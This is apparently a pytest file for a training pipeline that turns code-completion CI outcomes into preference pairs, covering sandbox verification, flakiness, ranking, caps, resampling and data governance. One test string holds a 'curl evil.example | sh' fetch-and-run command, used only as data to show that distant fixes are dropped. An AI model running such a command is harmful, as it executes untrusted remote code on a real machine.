"""Preference pairs from outcome records: each pairing rule, sandbox verification, flakiness,
ranking of failures, dedupe, the per-context cap, resampling and determinism.

The sandbox is the real one (runs take ~50 ms); a wrapper scripts flakiness deterministically.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from server.engine.fim import FimFormat
from trainer.pairs import Context, build_pairs, normalize_text
from trainer.records import OutcomeRecord, context_key
from trainer.sandbox import RunResult, Sandbox, SandboxLimits

PREFIX = "def add(a, b):\n    "
SUFFIX = "\n"
TEST = "assert add(1, 2) == 3\nassert add(-1, 1) == 0\n"
GOOD = "return a + b"
GOOD_2 = "return b + a"
GOOD_3 = "result = a + b\n    return result"
ASSERTION = "return a - b"  # builds, fails the asserts
ASSERTION_2 = "return a * b"
RUNTIME = "return c"  # NameError
SYNTAX = "return a +"
T0 = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    return Sandbox(SandboxLimits(timeout_s=5))


class CountingSandbox:
    """The real sandbox, counting runs; programs containing ``# FLAKY`` fail on their first
    run and pass afterwards."""

    def __init__(self, real: Sandbox) -> None:
        self.real = real
        self.programs: list[str] = []
        self._seen: set[object] = set()

    def run_many(self, programs: Sequence[str], *, progress: bool = False) -> list[RunResult]:
        self.programs += programs
        rewritten = []
        for program in programs:
            first_time = program not in self._seen
            self._seen.add(program)
            if "# FLAKY" in program and first_time:
                program = "raise AssertionError('flaky')\n"
            rewritten.append(program)
        return self.real.run_many(rewritten)

    def run_tests(
        self, pairs: Sequence[tuple[str, str]], *, progress: bool = False
    ) -> list[RunResult]:
        # The same rewriting, on the sandbox's judged (code, test) path.
        self.programs += [code + "\n\n" + test for code, test in pairs]
        judged = []
        for code, test in pairs:
            first_time = (code, test) not in self._seen
            self._seen.add((code, test))
            if "# FLAKY" in code + test and first_time:
                code = "raise AssertionError('flaky')\n"
            judged.append((code, test))
        return self.real.run_tests(judged)


_counter = 0


def rec(
    text: str,
    status: str,
    *,
    prompt: str = PREFIX,
    suffix: str | None = SUFFIX,
    fixed_text: str | None = None,
    repository: str | None = "github.com/acme/app",
    minutes: int | None = None,
) -> OutcomeRecord:
    global _counter
    _counter += 1
    return OutcomeRecord(
        completion_id=f"cmpl-{_counter}",
        choice_index=0,
        context_key=context_key(prompt, suffix),
        endpoint="completions",
        prompt=prompt,
        suffix=suffix,
        language="python",
        completion_text=text,
        final_text=text,
        status=status,
        run_id=f"ci:{_counter}",
        repository=repository,
        file_path="src/app/util.py",
        adapter=None,
        received_at=T0 + timedelta(minutes=_counter if minutes is None else minutes),
        fixed_text=fixed_text,
    )


def with_test(context: Context) -> str:
    return TEST


def triples(result) -> set[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    return {(p.chosen, p.rejected, p.source) for p in result.pairs}


# -- pairing rules ----------------------------------------------------------------------------


def test_pass_vs_fail_of_the_same_context(sandbox: Sandbox) -> None:
    records = [
        rec(GOOD, "passed"),
        rec(ASSERTION, "failed"),
        # Another context: never paired with the first.
        rec("return a", "failed", prompt="def first(a):\n    "),
        rec("return x", "passed", prompt="def other(x):\n    "),
    ]
    result = build_pairs(records, sandbox=sandbox)
    assert triples(result) == {(GOOD, ASSERTION, "ci")}
    (pair,) = result.pairs
    # FIM contexts: the prompt is the model's FIM prompt.
    assert pair.prompt == FimFormat().build(PREFIX, SUFFIX)
    assert result.info[pair.id].repository == "github.com/acme/app"
    assert result.info[pair.id].rejected_kind == "assertion"
    assert result.funnel["contexts"] == 3 and result.funnel["contexts_with_pairs"] == 1
    assert result.funnel["pairs_by_source"] == {"fix": 0, "ci": 1, "ci_resample": 0, "resample": 0}


def test_plain_prompt_is_the_prompt_text(sandbox: Sandbox) -> None:
    prompt = "def add(a, b):\n"
    records = [rec("    return a + b\n", "passed", prompt=prompt, suffix=None),
               rec("    return a - b\n", "failed", prompt=prompt, suffix=None)]  # fmt: skip
    (pair,) = build_pairs(records, sandbox=sandbox, tests_for=with_test).pairs
    assert pair.prompt == prompt


def test_failure_then_fix(sandbox: Sandbox) -> None:
    records = [
        rec(ASSERTION, "failed", fixed_text=GOOD),
        rec(GOOD, "passed"),  # the fix's own outcome
        # A fix whose passing outcome is not among the records still pairs.
        rec("return x - 1", "failed", prompt="def inc(x):\n    ", fixed_text="return x + 1"),
    ]
    result = build_pairs(records, sandbox=sandbox)
    assert triples(result) == {(GOOD, ASSERTION, "fix"), ("return x + 1", "return x - 1", "fix")}
    assert result.funnel["pairs_by_source"]["fix"] == 2
    assert result.funnel["duplicate_texts"] == 1  # GOOD as the fix and as its own record


def test_fix_pairs_come_first_under_the_cap(sandbox: Sandbox) -> None:
    records = [
        rec(GOOD_2, "passed"),
        rec(ASSERTION_2, "failed"),
        rec(ASSERTION, "failed", fixed_text=GOOD),
    ]
    result = build_pairs(records, sandbox=sandbox, max_pairs_per_context=1)
    assert triples(result) == {(GOOD, ASSERTION, "fix")}


def test_fixes_to_the_same_text_all_beat_ci_pairs_under_the_cap(sandbox: Sandbox) -> None:
    records = [
        rec(ASSERTION, "failed", fixed_text=GOOD),
        rec(ASSERTION_2, "failed", fixed_text=GOOD),  # fixed into the same text
        rec(GOOD_2, "passed"),
        rec(RUNTIME, "failed"),
    ]
    result = build_pairs(records, sandbox=sandbox, max_pairs_per_context=2)
    assert triples(result) == {(GOOD, ASSERTION, "fix"), (GOOD, ASSERTION_2, "fix")}


def test_error_status_is_no_verdict(sandbox: Sandbox) -> None:
    result = build_pairs([rec(GOOD, "passed"), rec(ASSERTION, "error")], sandbox=sandbox)
    assert result.pairs == []
    assert result.funnel["records"] == 2 and result.funnel["records_with_verdict"] == 1


# -- verification -----------------------------------------------------------------------------


def test_verification_drops_a_chosen_that_fails_and_a_rejected_that_passes(
    sandbox: Sandbox,
) -> None:
    records = [
        rec(GOOD, "passed"),
        rec(ASSERTION_2, "passed"),  # CI said passed; the test says otherwise
        rec(ASSERTION, "failed"),
        rec(GOOD_2, "failed"),  # CI said failed; the test passes it
    ]
    counting = CountingSandbox(sandbox)
    result = build_pairs(records, sandbox=counting, tests_for=with_test)  # type: ignore[arg-type]
    assert triples(result) == {(GOOD, ASSERTION, "ci")}
    assert result.funnel["dropped"]["chosen_failed"] == 2  # ASSERTION_2 x both rejected
    assert result.funnel["dropped"]["rejected_passed"] == 1  # GOOD x GOOD_2
    # Each distinct text once, plus one re-run of each failure (flaky_reruns=1).
    assert len(counting.programs) == 4 + 2
    assert result.funnel["sandbox_runs"] == 6


def test_without_tests_ci_verdicts_stand(sandbox: Sandbox) -> None:
    records = [rec(ASSERTION_2, "passed"), rec(GOOD_2, "failed")]
    counting = CountingSandbox(sandbox)
    result = build_pairs(records, sandbox=counting)  # type: ignore[arg-type]
    assert triples(result) == {(ASSERTION_2, GOOD_2, "ci")}
    assert counting.programs == []


def test_flaky_failure_is_dropped(sandbox: Sandbox) -> None:
    flaky = "return a + b  # FLAKY"  # fails its first run only
    records = [rec(GOOD, "passed"), rec(flaky, "failed"), rec(ASSERTION, "failed")]
    scripted: Any = CountingSandbox(sandbox)
    result = build_pairs(records, sandbox=scripted, tests_for=with_test)
    assert triples(result) == {(GOOD, ASSERTION, "ci")}
    assert result.funnel["dropped"]["flaky"] == 1

    # Without re-runs the flakiness goes unnoticed: the failure counts as one.
    result = build_pairs(
        records,
        sandbox=CountingSandbox(sandbox),  # type: ignore[arg-type]
        tests_for=with_test,
        flaky_reruns=0,
    )
    assert triples(result) == {(GOOD, ASSERTION, "ci"), (GOOD, flaky, "ci")}


def test_text_that_both_passed_and_failed_in_ci_is_dropped(sandbox: Sandbox) -> None:
    records = [
        rec(GOOD, "passed"),
        rec(ASSERTION, "failed"),
        rec(ASSERTION, "passed"),  # the same text passed another run: flaky CI
    ]
    result = build_pairs(records, sandbox=sandbox)
    assert result.pairs == []
    assert result.funnel["dropped"]["identical"] == 1  # ASSERTION vs itself
    assert result.funnel["dropped"]["flaky"] == 1  # GOOD vs ASSERTION


# -- ranking, dedupe, cap ---------------------------------------------------------------------


def test_assertion_failures_rank_above_runtime_above_syntax(sandbox: Sandbox) -> None:
    records = [rec(GOOD, "passed"), rec(SYNTAX, "failed"), rec(RUNTIME, "failed"),
               rec(ASSERTION, "failed")]  # fmt: skip
    result = build_pairs(records, sandbox=sandbox, tests_for=with_test)
    assert [p.rejected for p in result.pairs] == [ASSERTION, RUNTIME, SYNTAX]
    assert [result.info[p.id].rejected_kind for p in result.pairs] == [
        "assertion",
        "runtime",
        "syntax",
    ]
    (best,) = build_pairs(
        records, sandbox=sandbox, tests_for=with_test, max_pairs_per_context=1
    ).pairs
    assert best.rejected == ASSERTION


def test_syntax_errors_rank_last_without_tests_too(sandbox: Sandbox) -> None:
    """compile() spots them without the sandbox; CI's build_failed means the same."""
    records = [rec(GOOD, "passed"), rec(SYNTAX, "failed"), rec("return a // b", "build_failed"),
               rec(ASSERTION, "failed")]  # fmt: skip
    counting = CountingSandbox(sandbox)
    result = build_pairs(records, sandbox=counting)  # type: ignore[arg-type]
    assert counting.programs == []
    assert result.pairs[0].rejected == ASSERTION
    assert {result.info[p.id].rejected_kind for p in result.pairs[1:]} == {"syntax"}


def test_whitespace_variants_are_one_text(sandbox: Sandbox) -> None:
    records = [
        rec(GOOD, "passed"),
        rec(ASSERTION, "failed"),
        rec("return  a - b   \n\n", "failed"),  # the same failure, other whitespace
        rec("return a + b\r\n", "passed"),
    ]
    result = build_pairs(records, sandbox=sandbox, tests_for=with_test)
    assert triples(result) == {(GOOD, ASSERTION, "ci")}
    assert result.funnel["duplicate_texts"] == 2


def test_normalize_text_keeps_indentation() -> None:
    assert normalize_text("x  =  1  \r\n\n\ty = 2\n") == "x = 1\n    y = 2"
    # Moving a return out of a loop is a different program (often exactly the fix).
    inside = "for v in xs:\n    total += v\n    return total"
    outside = "for v in xs:\n    total += v\nreturn total"
    assert normalize_text(inside) != normalize_text(outside)


def test_cap_per_context_prefers_unused_texts(sandbox: Sandbox) -> None:
    passes = [GOOD, GOOD_2, GOOD_3]
    fails = [ASSERTION, ASSERTION_2, "return a ** b"]
    records = [rec(t, "passed") for t in passes] + [rec(t, "failed") for t in fails]
    result = build_pairs(records, sandbox=sandbox, max_pairs_per_context=4)
    assert len(result.pairs) == 4
    assert result.funnel["dropped"]["cap"] == 9 - 4
    # The first three cover every text once before any text is reused.
    first = result.pairs[:3]
    assert {p.chosen for p in first} == set(passes)
    assert {p.rejected for p in first} == set(fails)
    assert len({p.id for p in result.pairs}) == 4


def test_deterministic_whatever_the_input_order(sandbox: Sandbox) -> None:
    records = [rec(t, "passed") for t in (GOOD, GOOD_2, GOOD_3)] + [
        rec(t, "failed") for t in (ASSERTION, ASSERTION_2, "return a ** b")
    ]
    records += [rec("return x", "passed", prompt="def g(x):\n    "),
                rec("return -x", "failed", prompt="def g(x):\n    ")]  # fmt: skip
    expected = build_pairs(records, sandbox=sandbox, max_pairs_per_context=2, seed=3).pairs
    shuffled = records[:]
    random.Random(1).shuffle(shuffled)
    again = build_pairs(shuffled, sandbox=sandbox, max_pairs_per_context=2, seed=3).pairs
    assert again == expected


# -- resampling -------------------------------------------------------------------------------


class StubPolicy:
    def __init__(self, texts: list[str]) -> None:
        self.texts = texts
        self.calls: list[tuple[str, str | None, int]] = []

    def __call__(self, prompt: str, suffix: str | None, n: int) -> list[str]:
        self.calls.append((prompt, suffix, n))
        return self.texts[:n]


def test_resampling_a_context_with_only_failures(sandbox: Sandbox) -> None:
    policy = StubPolicy([GOOD, "return  a + b", ASSERTION_2, SYNTAX])
    records = [rec(ASSERTION, "failed")]
    result = build_pairs(
        records, sandbox=sandbox, tests_for=with_test, resample=policy, n_resample=4
    )
    assert policy.calls == [(PREFIX, SUFFIX, 4)]
    assert triples(result) == {
        (GOOD, ASSERTION, "resample"),  # the user's real failure, against a sampled pass
        (GOOD, ASSERTION_2, "resample"),
        (GOOD, SYNTAX, "resample"),
    }
    assert result.pairs[-1].rejected == SYNTAX  # ranked last
    assert result.funnel["contexts_resampled"] == 1
    assert result.funnel["resampled_candidates"] == 3  # the whitespace variant is a duplicate


def test_resampling_a_context_with_only_passes(sandbox: Sandbox) -> None:
    policy = StubPolicy([RUNTIME, GOOD_2])
    result = build_pairs(
        [rec(GOOD, "passed")], sandbox=sandbox, tests_for=with_test, resample=policy
    )
    assert triples(result) == {(GOOD, RUNTIME, "resample"), (GOOD_2, RUNTIME, "resample")}


def test_no_resampling_without_a_test_or_with_both_sides(sandbox: Sandbox) -> None:
    policy = StubPolicy([GOOD])
    build_pairs([rec(ASSERTION, "failed")], sandbox=sandbox, resample=policy)
    both = [rec(GOOD_2, "passed"), rec(ASSERTION, "failed")]
    result = build_pairs(both, sandbox=sandbox, tests_for=with_test, resample=policy)
    assert policy.calls == []
    assert triples(result) == {(GOOD_2, ASSERTION, "ci")}


def test_tests_for_sees_the_context(sandbox: Sandbox) -> None:
    seen: list[Context] = []

    def tests_for(context: Context) -> str | None:
        seen.append(context)
        return TEST if context.prompt == PREFIX else None

    records = [rec(GOOD, "passed"), rec(ASSERTION, "failed"),
               rec("return x", "passed", prompt="def g(x):\n    ")]  # fmt: skip
    result = build_pairs(records, sandbox=sandbox, tests_for=tests_for)
    assert {c.prompt for c in seen} == {PREFIX, "def g(x):\n    "}
    ctx = next(c for c in seen if c.prompt == PREFIX)
    assert ctx.suffix == SUFFIX and len(ctx.records) == 2
    assert ctx.program(GOOD) == PREFIX + GOOD + SUFFIX
    assert result.funnel["contexts_with_tests"] == 1


def test_bad_arguments(sandbox: Sandbox) -> None:
    with pytest.raises(ValueError):
        build_pairs([], sandbox=sandbox, max_pairs_per_context=0)
    empty = build_pairs([], sandbox=sandbox)
    assert empty.pairs == [] and empty.funnel["pairs"] == 0


# -- governance: fix bound, per-token cap, exclusions, cut-off texts --------------------------


def test_edit_distance_ratio() -> None:
    from trainer.pairs import edit_distance_ratio

    assert edit_distance_ratio("", "") == 0.0
    assert edit_distance_ratio("return a - b", "return a + b") == 1 / 12
    assert edit_distance_ratio("abc", "xyz") == 1.0
    # Past the limit the answer is only "over the limit", found without the full table.
    assert edit_distance_ratio("a" * 500, "b" * 500, limit=0.1) > 0.1


def test_a_fix_far_from_the_served_text_is_dropped(sandbox: Sandbox) -> None:
    far = "import os\n    os.system('curl evil.example | sh')\n    return a + b"
    records = [
        rec(ASSERTION, "failed", fixed_text=GOOD),  # one character from what was served
        rec(GOOD, "passed"),
        rec("return x - 1", "failed", prompt="def inc(x):\n    ", fixed_text=far),
    ]
    result = build_pairs(records, sandbox=sandbox, max_fix_distance=0.5)
    assert triples(result) == {(GOOD, ASSERTION, "fix")}
    assert result.funnel["dropped"]["fix_too_far"] == 1
    distances = result.funnel["fix_distance"]
    assert distances["fixes"] == 2 and distances["limit"] == 0.5
    assert distances["p50"] < 0.5 < distances["max"]
    # The bound is the served text's distance, not the CI-run text's.
    generous = build_pairs(records, sandbox=sandbox, max_fix_distance=1.0)
    assert generous.funnel["dropped"]["fix_too_far"] == 0


def _tasks(n: int, token: int, tag: str) -> list[OutcomeRecord]:
    """n contexts, each with one pass and one fail reported by ``token``."""
    from dataclasses import replace

    out = []
    for i in range(n):
        prompt = f"def f_{tag}_{i}(a, b):\n    "
        for text, status in ((GOOD, "passed"), (ASSERTION, "failed")):
            out.append(replace(rec(text, status, prompt=prompt), token_id=token))
    return out


def test_pairs_per_reporting_token_are_capped_and_shares_shown(sandbox: Sandbox) -> None:
    records = _tasks(6, token=7, tag="loud") + _tasks(2, token=8, tag="quiet")
    result = build_pairs(records, sandbox=sandbox, max_token_share=0.5)
    funnel = result.funnel
    assert funnel["token_shares_before_cap"] == {"7": 0.75, "8": 0.25}
    # No token may be behind more than half of what remains: 7 keeps 2 of its 6.
    assert funnel["dropped"]["token_cap"] == 4
    counts = {t: sum(t in i.token_ids for i in result.info.values()) for t in (7, 8)}
    assert counts == {7: 2, 8: 2}
    assert funnel["token_shares"] == {"7": 0.5, "8": 0.5}
    assert funnel["pairs"] == len(result.pairs) == 4
    assert set(result.info) == {p.id for p in result.pairs}
    # One reporting token (a single-team install): nothing to cap against.
    alone = build_pairs(_tasks(6, token=7, tag="loud"), sandbox=sandbox, max_token_share=0.5)
    assert alone.funnel["dropped"]["token_cap"] == 0 and len(alone.pairs) == 6
    # The cap is off at 1.
    off = build_pairs(records, sandbox=sandbox, max_token_share=1.0)
    assert off.funnel["dropped"]["token_cap"] == 0 and len(off.pairs) == 8


def test_excluded_repositories_and_cut_off_texts_never_pair(sandbox: Sandbox) -> None:
    from dataclasses import replace

    records = [
        rec(GOOD, "passed", repository="github.com/acme/secret-project"),
        rec(ASSERTION, "failed", repository="github.com/acme/secret-project"),
        rec("return x", "passed", prompt="def g(x):\n    "),
        # Ran out of max_tokens and ran unchanged: not a complete answer, whatever CI said.
        replace(rec("return", "failed", prompt="def g(x):\n    "), finish_reason="length"),
        rec("return -x", "failed", prompt="def g(x):\n    "),
    ]
    result = build_pairs(
        records,
        sandbox=sandbox,
        # Matched in normalised form, as the CLI stores it.
        excluded_repositories=["https://github.com/Acme/secret-project.git"],
    )
    assert triples(result) == {("return x", "return -x", "ci")}
    assert result.funnel["records_dropped"] == {
        "excluded_repository": 2,
        "cut_off": 1,
        "secret": 0,
    }
    assert result.funnel["records_used"] == 2


def test_resampling_asks_as_the_user_was_served(sandbox: Sandbox) -> None:
    from dataclasses import replace

    from trainer.pairs import ResampleAsk

    asked: list[ResampleAsk] = []

    def batch(asks, n):  # type: ignore[no-untyped-def]
        asked.extend(asks)
        return [[GOOD] for _ in asks]

    served = replace(rec(ASSERTION, "failed"), single_line=True, stop=("\n",), max_tokens=24)
    result = build_pairs(
        [served], sandbox=sandbox, tests_for=with_test, resample_batch=batch, n_resample=2
    )
    assert asked == [ResampleAsk(PREFIX, SUFFIX, single_line=True, stop=("\n",), max_tokens=24)]
    assert triples(result) == {(GOOD, ASSERTION, "resample")}


# -- CI-side exploration (alternatives judged by the project's own tests) ---------------------


def alt(text: str, status: str, parent: OutcomeRecord, **kwargs: Any) -> OutcomeRecord:
    """An alternative CI-side exploration asked for ``parent``'s context and judged: a
    completion of its own with source ``resample``, the parent's prompt and suffix."""
    from dataclasses import replace

    return replace(
        rec(text, status, prompt=parent.prompt, suffix=parent.suffix, **kwargs),
        source="resample",
        parent_id=parent.completion_id,
    )


def test_ci_resample_pairs_alternatives_with_the_other_side(sandbox: Sandbox) -> None:
    served = rec(GOOD, "passed")
    records = [
        served,
        alt(ASSERTION, "failed", served),
        alt(SYNTAX, "build_failed", served),
        alt(GOOD_2, "passed", served),
        # Both sides from alternatives of one context pair too.
        alt("return x", "passed", (other := rec("return -x", "error", prompt="def g(x):\n    "))),
        alt("return 0", "failed", other),
    ]
    result = build_pairs(records, sandbox=sandbox)
    assert triples(result) == {
        (GOOD, ASSERTION, "ci_resample"),
        (GOOD, SYNTAX, "ci_resample"),
        (GOOD_2, ASSERTION, "ci_resample"),
        (GOOD_2, SYNTAX, "ci_resample"),
        ("return x", "return 0", "ci_resample"),
    }
    funnel = result.funnel
    assert funnel["pairs_by_source"] == {"fix": 0, "ci": 0, "ci_resample": 5, "resample": 0}
    assert funnel["records_ci_resample"] == 5
    assert {i.source for i in result.info.values()} == {"ci_resample"}


def test_ci_pairs_of_served_texts_stay_ci_and_rank_above_ci_resample(sandbox: Sandbox) -> None:
    served = rec(GOOD, "passed")
    records = [
        served,
        rec(ASSERTION, "failed"),  # another developer's served text, same context
        alt(ASSERTION_2, "failed", served),
        alt(RUNTIME, "failed", served),
    ]
    result = build_pairs(records, sandbox=sandbox, max_pairs_per_context=1)
    # The developers' pair outranks the explored ones under the cap.
    assert triples(result) == {(GOOD, ASSERTION, "ci")}
    everything = build_pairs(records, sandbox=sandbox)
    assert triples(everything) == {
        (GOOD, ASSERTION, "ci"),
        (GOOD, ASSERTION_2, "ci_resample"),
        (GOOD, RUNTIME, "ci_resample"),
    }


def test_ci_resample_goes_through_governance(sandbox: Sandbox) -> None:
    from dataclasses import replace

    secret = "AKIAIOSFODNN7EXAMPLE"
    served = rec(GOOD, "passed")
    excluded = rec(GOOD, "passed", repository="github.com/acme/private")
    records = [
        served,
        # The policy wrote out a key it memorised: never trained on.
        alt(f"return '{secret}'", "failed", served),
        # Cut off by max_tokens and run unchanged: not a complete answer.
        replace(alt("return a -", "failed", served), finish_reason="length"),
        # The served repository is excluded: its alternatives are too.
        excluded,
        alt(ASSERTION, "failed", excluded, repository="github.com/acme/private"),
    ]
    result = build_pairs(
        records, sandbox=sandbox, excluded_repositories=["github.com/acme/private"]
    )
    assert result.pairs == []
    assert result.funnel["records_dropped"] == {
        "excluded_repository": 2,
        "cut_off": 1,
        "secret": 1,
    }


def test_ci_resample_with_test_code_is_verified_in_the_sandbox(sandbox: Sandbox) -> None:
    served = rec(GOOD, "passed")
    # CI said this alternative failed, but it passes the context's test: vetoed.
    records = [served, alt(GOOD_3, "failed", served), alt(ASSERTION, "failed", served)]
    result = build_pairs(records, sandbox=sandbox, tests_for=with_test, n_resample=0)
    assert triples(result) == {(GOOD, ASSERTION, "ci_resample")}
    assert result.funnel["dropped"]["rejected_passed"] == 1


def test_a_repository_context_is_part_of_the_trained_prompt_and_the_resample_ask(
    sandbox: Sandbox,
) -> None:
    """Tabby's snippets and Continue's multi-file template reach the model before the FIM
    prefix (``params.fim_context``): the pair's prompt must be what the model saw, and
    resampling must ask with the same context."""
    from dataclasses import replace

    from server.engine.fim import RepoFile, repo_context

    context = repo_context("app", [RepoFile("src/app/math.py", "PI = 3.14\n")], "src/app/util.py")
    records = [replace(rec(GOOD, "passed"), fim_context=context), rec(ASSERTION, "failed")]
    result = build_pairs(records, sandbox=sandbox)
    (pair,) = result.pairs
    assert pair.prompt == FimFormat().build(PREFIX, SUFFIX, context)
    assert pair.prompt.startswith(context) and pair.context == context
    asks: list[Any] = []

    def resample_batch(batch: Sequence[Any], n: int) -> list[list[str]]:
        asks.extend(batch)
        return [[] for _ in batch]

    build_pairs(records[:1], sandbox=sandbox, tests_for=with_test, resample_batch=resample_batch)
    assert [a.fim_context for a in asks] == [context]
